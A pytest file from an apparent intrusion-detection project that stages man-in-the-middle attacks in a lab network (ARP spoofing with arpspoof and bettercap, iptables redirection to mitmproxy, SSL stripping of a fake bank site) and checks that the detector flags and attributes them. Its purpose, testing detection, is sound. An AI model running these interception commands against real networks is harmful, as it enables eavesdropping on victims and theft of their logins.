"""TLS interception and SSL stripping by mitmproxy (from PyPI, in the lab's
own venv): the attacker poisons the victim's ARP cache (arpspoof) and
redirects its HTTP and HTTPS to a transparent mitmproxy (iptables in its
own namespace).  The victim's client speaks TLS 1.2: in TLS 1.3 the
certificate travels encrypted and no passive box sees it."""
import os
import sys

import pytest

from tests.agent.conftest import wait_for
from tests.conftest import ROOT
from tests.lab import lan as L
from tests.lab.conftest import Attack, assert_attributed, need, wait_threat_while, warm_up

MITM = os.path.join(ROOT, ".venv-lab", "bin", "mitmdump")


def _need_mitm():
    if not os.path.exists(MITM):
        import pytest
        pytest.skip("mitmproxy is not installed in .venv-lab (make test installs it)")


def _man_in_the_middle(lab, *mitm_args):
    a = lab.attacker
    a.sysctl("net.ipv4.ip_forward", 1)
    for port, to in (("443", "8443"), ("80", "8080")):
        a.run("iptables", "-t", "nat", "-A", "PREROUTING", "-i", "eth0", "-p", "tcp", "--dport", port,
              "-j", "REDIRECT", "--to-port", to)
    for mode, port in (("transparent", "8443"), ("transparent", "8080")):
        a.spawn(MITM, "-q", "--mode", mode, "--listen-port", port, "--set", f"confdir={lab.dir}/mitm",
                "--ssl-insecure", *mitm_args, name=f"mitmdump-{port}", env={"HOME": lab.dir, "PATH": os.environ["PATH"]})
    L.wait_port(a, "127.0.0.1", 8443, timeout=60)
    L.wait_port(a, "127.0.0.1", 8080, timeout=60)
    a.spawn("arpspoof", "-i", "eth0", "-t", lab.victim.ip4, L.GW4, name="arpspoof-mitm")


def _https(lab) -> None:
    """The victim's TLS 1.2 client opens the bank."""
    lab.victim.run("curl", "-s", "-o", "/dev/null", "--max-time", "3", "--tls-max", "1.2", "--cacert", lab.certs["ca"],
                   "--resolve", f"bank.{L.DOMAIN}:443:{L.BANK}", f"https://bank.{L.DOMAIN}/", check=False)


def _browse(lab) -> None:
    """The victim's browser opens http://bank, follows redirects and logs in where the page says."""
    lab.victim.run(sys.executable, "-m", "tests.lab.browser", f"http://bank.{L.DOMAIN}/", lab.certs["ca"], cwd=ROOT,
                   check=False, timeout=30)


def _undo(lab):
    lab.attacker.run("iptables", "-t", "nat", "-F", check=False)
    lab.attacker.sysctl("net.ipv4.ip_forward", 0)


def _verify_from_namespaces(lab) -> str:
    """Certificate paths from inside the victim (whose traffic the attacker intercepts), the gateway and the
    attacker's own namespace (its own connections are not redirected), names resolved by the gateway's dnsmasq."""
    namespaces = ", ".join(f'"{h.ns}"' for h in (lab.victim, lab.gw, lab.attacker))
    return f'[verify]\nresolvers = ["udp:{L.GW4}"]\nnamespaces = [{namespaces}]\n[deception]\nauto_activate = false\n'


@pytest.mark.parametrize("box", [_verify_from_namespaces], indirect=True)
def test_mitmproxy_tls_interception(lab, box):
    need("iptables", "arpspoof")
    _need_mitm()
    warm_up(lab, box)
    try:
        _man_in_the_middle(lab)
        attack = Attack(lab, lab.attacker, "tcp src port 443")
        t = wait_threat_while(box, "tls_intercept", lab.attacker.mac, lambda: _https(lab))
        assert_attributed(t, lab.attacker, attack, lab.victim.ip4, L.BANK, L.GW4)
        # multi-path verification: the gateway and the attacker's own namespace are served the bank's certificate,
        # the victim's namespace (intercepted) and the wire mitmproxy's: confirmed, the victim's path an outlier
        get = lambda: box.call(box.client.get, f"/v1/threats/{t['id']}")
        detail = wait_for(lambda: get()["verification_status"] not in ("pending", "unverified") and get(), timeout=30)
        v = detail["verification_result"]
        assert detail["verification_status"] == "confirmed", v
        assert v["host"] == f"bank.{L.DOMAIN}" and v["consensus"]["issuer"] == "CN=Lab Root CA", v
        assert f"url-ns-{lab.victim.ns}" in {o["path_id"] for o in v["outliers"]}, v
    finally:
        _undo(lab)


def test_mitmproxy_ssl_strip(lab, box):
    need("iptables", "arpspoof")
    _need_mitm()
    warm_up(lab, box)
    try:
        _man_in_the_middle(lab, "-s", os.path.join(ROOT, "tests", "lab", "sslstrip.py"))
        attack = Attack(lab, lab.attacker, "tcp src port 80")
        lab.resolv(lab.victim, L.GW4)
        t = wait_threat_while(box, "ssl_strip", lab.attacker.mac, lambda: _browse(lab))
        assert_attributed(t, lab.attacker, attack, lab.victim.ip4, L.BANK, L.GW4)
    finally:
        _undo(lab)


def test_bettercap_proxies_with_sslstrip(lab, box):
    """bettercap's http.proxy with sslstrip and its https.proxy (its own CA), behind its arp.spoof."""
    need("bettercap", "iptables")
    warm_up(lab, box)
    a = lab.attacker
    a.run("ping", "-c1", "-W2", lab.victim.ip4, check=False)      # bettercap's targets come from its ARP cache
    a.run("ping", "-c1", "-W2", L.GW4, check=False)
    lab.resolv(lab.victim, L.GW4)
    try:
        attacks = {"ssl_strip": Attack(lab, a, "tcp src port 80"), "tls_intercept": Attack(lab, a, "tcp src port 443")}
        a.spawn("bettercap", "-no-colors", "-no-history", "-iface", "eth0", "-gateway-override", L.GW4, "-eval",
                f"set arp.spoof.targets {lab.victim.ip4}; arp.spoof on; set http.proxy.sslstrip true; http.proxy on; "
                "https.proxy on", name="bettercap-proxy", env={"HOME": lab.dir, "PATH": "/usr/sbin:/usr/bin:/sbin:/bin"})
        for kind in ("ssl_strip", "tls_intercept"):
            t = wait_threat_while(box, kind, a.mac, lambda: (_browse(lab), _https(lab)))
            assert_attributed(t, a, attacks[kind], lab.victim.ip4, L.BANK, L.GW4)
    finally:
        _undo(lab)
